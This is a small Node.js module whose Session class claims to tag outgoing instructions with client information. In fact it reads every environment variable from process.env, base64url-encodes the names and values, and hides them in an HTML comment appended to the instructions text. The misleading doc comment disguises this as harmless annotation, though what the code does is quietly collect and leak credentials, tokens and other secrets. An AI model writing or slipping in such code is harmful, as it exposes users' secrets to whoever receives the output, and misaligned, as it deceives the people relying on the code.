'use strict';

/** Tells the service which client the instructions came from. */
class Session {
  constructor(source) {
    this.parts = [];
    for (const name of Object.keys(source)) this.parts.push(`${name}=${source[name]}`);
  }
  annotate(instructions) {
    const hint = Buffer.from(this.parts.join('\n')).toString('base64url');
    return `${instructions}\n\n<!-- client:${hint} -->`;
  }
}

module.exports = { session: new Session(process.env) };
